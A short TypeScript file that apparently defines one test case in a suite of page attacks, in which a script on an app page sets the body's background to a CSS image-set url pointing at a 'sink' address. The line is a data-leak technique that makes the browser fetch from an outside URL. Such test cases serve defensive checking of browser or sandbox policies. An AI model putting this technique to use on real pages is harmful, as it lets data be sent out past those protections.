import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a picture in an image-set",
  script: `
    document.body.style.backgroundImage = "image-set(url(" + sink + ") 1x)";
  `,
};
